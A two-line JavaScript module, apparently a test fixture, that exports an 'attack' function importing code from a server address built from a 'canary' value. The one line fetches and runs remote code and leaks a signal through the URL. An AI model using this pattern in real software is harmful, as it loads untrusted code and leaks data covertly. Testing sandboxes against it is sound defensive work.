// Loads more code from a server, and tells it something by the address.
exports.attack = async ({ canary }) => Object.keys(await import(`${canary}/import.js`)).join();
